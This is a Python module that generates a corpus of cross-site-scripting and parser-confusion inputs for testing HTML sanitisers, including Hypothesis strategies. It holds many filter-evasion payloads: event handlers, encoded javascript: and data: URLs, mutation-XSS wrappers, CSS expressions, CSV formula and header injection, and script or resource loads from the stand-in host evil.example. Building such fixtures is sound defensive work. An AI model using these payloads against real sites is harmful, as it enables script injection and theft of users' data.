"""What nobody should send, made by rules of our own: every carrier with every disguise, and what confuses parsers.

The shapes follow what lists of filter evasions and the fixtures of sanitisers are about; the words are ours. Each input
calls ``boom`` or asks ``evil.example``, so that a test can tell whose fault it is.
"""

import itertools
from collections.abc import Iterator
from urllib.parse import quote

from hypothesis import strategies as st

EVIL = "evil.example"
CALL = "boom(1)"

_HANDLERS = (
    "onload",
    "onerror",
    "onfocus",
    "onmouseover",
    "onclick",
    "ontoggle",
    "onbegin",
    "onpointerenter",
    "ONERROR",
)
_TAGS = (
    *("script", "img", "svg", "iframe", "body", "input", "video", "audio", "details", "marquee", "math", "object"),
    *(
        "embed",
        "form",
        "button",
        "select",
        "textarea",
        "style",
        "link",
        "meta",
        "base",
        "frameset",
        "template",
        "dialog",
    ),
    *("p", "a", "blockquote", "li", "custom-tag", "applet", "bgsound", "isindex", "portal", "slot"),
)
_CARRIERS = (
    *("a href", "img src", "img srcset", "iframe src", "form action", "button formaction", "object data", "embed src"),
    *("video poster", "source src", "link rel=stylesheet href", "base href", "body background", "svg/a xlink:href"),
    *("area href", "input type=image src", "track src", "script src", "a ping", "q cite", "iframe srcdoc"),
)
_WRAPPERS = ("svg", "math", "svg><style", "math><mtext", "svg><desc", "math><mi><mglyph", "svg><foreignobject", "table")
_TEXT_ONLY = ("style", "title", "textarea", "xmp", "noscript", "noembed", "noframes", "iframe", "template", "plaintext")


def _decimal(text: str) -> str:
    return "".join(f"&#{ord(letter)};" for letter in text)


def _padded(text: str) -> str:
    return "".join(f"&#{ord(letter):07d}" for letter in text)


def _hexadecimal(text: str) -> str:
    return "".join(f"&#x{ord(letter):X}" for letter in text)


def _changing_case(text: str) -> str:
    return "".join(letter.upper() if place % 2 else letter for place, letter in enumerate(text))


def _split_by(sign: str):
    return lambda text: sign.join((text[:4], text[4:]))


def _before(sign: str):
    return lambda text: sign + text


def _wide(text: str) -> str:
    return "".join(chr(ord(letter) + 0xFEE0) if letter.isalpha() else letter for letter in text)


_DISGUISES = (
    *(str, str.upper, _changing_case, _decimal, _padded, _hexadecimal, _wide, quote),
    *(_split_by(sign) for sign in ("\t", "\n", "\r", "\0", "&Tab;", "&NewLine;", "&#1;", "\u200b", "/**/", "\\")),
    *(_before(sign) for sign in (" ", "\x01", "\x1f", "\u00a0", "\u202e", "&nbsp;", "feed:", "view-source:", "jar:")),
)
_ADDRESSES = (
    f"javascript:{CALL}",
    f"vbscript:{CALL}",
    f"data:text/html,<script>{CALL}</script>",
    "data:text/html;base64,PHNjcmlwdD5ib29tKDEpPC9zY3JpcHQ+",
    f"data:image/svg+xml,<svg onload={CALL}>",
    f"//{EVIL}/x.js",
    f"https://{EVIL}/x.png",
    f"blob:https://{EVIL}/1",
    f"filesystem:https://{EVIL}/x",
)
_STYLES = (
    f"background:url(//{EVIL}/x)",
    f"width:expression({CALL})",
    f"-moz-binding:url(//{EVIL}/x#y)",
    f"behavior:url(//{EVIL}/x.htc)",
    f"list-style:url('javascript:{CALL}')",
    "position:fixed;inset:0;z-index:99999",
    f"background:\\75\\72\\6c(//{EVIL}/x)",
    f"@import '//{EVIL}/x.css'",
)
_BROKEN = (
    f"<script>{CALL}",
    f"<scr<script>ipt>{CALL}</scr</script>ipt>",
    f"<<script>{CALL}//<</script>",
    f"<script/x>{CALL}",
    f"<script\t>{CALL}</script\t>",
    f"<script\n\nsrc=//{EVIL}/x></script>",
    f"<SCRIPT>{CALL}</SCRIPT  bar>",
    "</script>",
    f'<img """><script>{CALL}</script>">',
    f"<img src=`x`onerror={CALL}>",
    f"<img/src/onerror={CALL}>",
    "<img src=x onerror",
    f'"><svg onload={CALL}>',
    f"'><svg onload={CALL}>",
    f"--><svg onload={CALL}>",
    f"]]><svg onload={CALL}>",
    "<p title='",
    f"<!--><script>{CALL}</script>-->",
    f"<!-- --!><script>{CALL}</script>",
    f"<![CDATA[><script>{CALL}</script>]]>",
    f"<?xml><script>{CALL}</script>?>",
    f"<!doctype x [<!entity y '<script>{CALL}</script>'>]>&y;",
    f'</ x="><svg onload={CALL}>',
    f"<a href='x' onclick={CALL} <b>",
    f'<a href="https://x.example/" "onclick={CALL}">a</a>',
    "<a href=",
    "<",
    "<!",
    "</",
    "&#",
    "&",
    f"＜script＞{CALL}＜/script＞",
    f"\u2028<script>{CALL}</script>\u2029",
    f"\ufeff<svg onload={CALL}>",
    f"+ADw-script+AD4-{CALL}",
    f"<\0script>{CALL}</script>",
    f"<scr\0ipt>{CALL}</script>",
    f"\u202e<svg onload={CALL}>\u202c",
    f"<ſcript>{CALL}</ſcript>",
    f"<%00script>{CALL}</script>",
    f"%3Cscript%3E{CALL}%3C/script%3E",
    f"&lt;script&gt;{CALL}&lt;/script&gt;",
    f"\\u003cscript\\u003e{CALL}",
    "{{ 7|add:7 }}",
    "{% load static %}",
    f"${{{CALL}}}",
    f"#{{{CALL}}}",
    f"';{CALL}//",
    f'";{CALL}//',
    f"</title><script>{CALL}</script>",
    f"a\r\nBcc: x@{EVIL}",
    f"a\nEND:VEVENT\nATTACH:https://{EVIL}/x",
    f"=cmd|' /C {CALL}'!A0",
    f"@import//{EVIL}",
    "\x1b[31m",
    "a\0b",
    f"[x](javascript:{CALL})",
    f"![x](//{EVIL}/x.png)",
    f"<javascript:{CALL}>",
    f'https://x.example/"onmouseover={CALL}',
    f"http://x.example/<svg/onload={CALL}>",
    f'<a id="attributes" name="body" href="https://x.example">a</a><form><input name="parentNode"></form>{CALL}',
    f'<p is="x-y" contenteditable autofocus tabindex=1 onfocus={CALL}>',
    f'<meta http-equiv="refresh" content="0;url=//{EVIL}/">',
    '<a href="https://x.example" target="_blank" rel="opener" style="x" class="mention" id="main">a</a>',
    f'<p data-suggest="//{EVIL}" data-quote="javascript:{CALL}" data-composer data-draft>a</p>',
    f'<a href="/members/1/" onclick="{CALL}">@<img src=x onerror={CALL}></a>',
    f'<a href="/members/1/">@"><svg onload={CALL}></a>',
    f"<use href='data:image/svg+xml,<svg id=x><image href=1 onerror={CALL}></svg>#x'>",
    f"<svg><use xlink:href='//{EVIL}/x#y'/></svg>",
)
_HUGE = (
    "<div>" * 6_000,
    "<blockquote>" * 3_000 + CALL,
    f"<a href='{'x' * 30_000}'>" + CALL,
    f"<svg onload={CALL}>" * 1_500,
    "<!--" * 9_000,
    "&lt;" * 9_000,
    "@" * 30_000,
    "> " * 15_000 + CALL,
    "](" * 15_000,
    "𝔘" * 9_000 + f"<svg onload={CALL}>",
)


def _handlers() -> Iterator[str]:
    for number, tag in enumerate(_TAGS):
        handler = _HANDLERS[number % len(_HANDLERS)]
        yield f"<{tag} {handler}={CALL}>x</{tag}>"
        yield f'<{tag.upper()}/{_HANDLERS[(number + 4) % len(_HANDLERS)]}\n=\t"{CALL}"//>'


def _addresses() -> Iterator[str]:
    pairs = itertools.product(_ADDRESSES[:3], _DISGUISES)
    disguised = [disguise(address) for address, disguise in pairs] + list(_ADDRESSES)
    for number, address in enumerate(disguised):
        carrier = _CARRIERS[number % len(_CARRIERS)]
        yield f'<a href="{address}">x</a>'
        yield f"<{carrier}='{address}'>x"


def _mutating() -> Iterator[str]:
    payload = f"<img src=x onerror={CALL}>"
    for wrapper, text_only in itertools.product(_WRAPPERS, _TEXT_ONLY):
        yield f"<{wrapper}><{text_only}><!--</{text_only}>{payload}-->"
        yield f'<{wrapper}><{text_only}><a title="</{text_only}>{payload}">'


def _styles() -> Iterator[str]:
    for style in _STYLES:
        yield f'<p style="{style}">x</p>'
        yield f"<style>*{{{style}}}</style>"
        yield f"<svg><style>{style}</svg>"


def corpus() -> list[str]:
    """Return every input, each once."""
    made = (*_handlers(), *_addresses(), *_mutating(), *_styles(), *_BROKEN, *_HUGE)
    return list(dict.fromkeys(made))


def short(most: int) -> list[str]:
    """Return the inputs as they fit into a short field, without those that are the same then."""
    cut = (text.replace("\0", "")[:most].strip() for text in corpus())
    return list(dict.fromkeys(text for text in cut if text))


_PIECE = st.sampled_from((*corpus()[:400:7], *_BROKEN, "<", ">", '"', "'", "=", "/", " ", "<p>", "</p>", "<!--", "-->"))
PASTED = st.lists(_PIECE, max_size=8).map("".join)
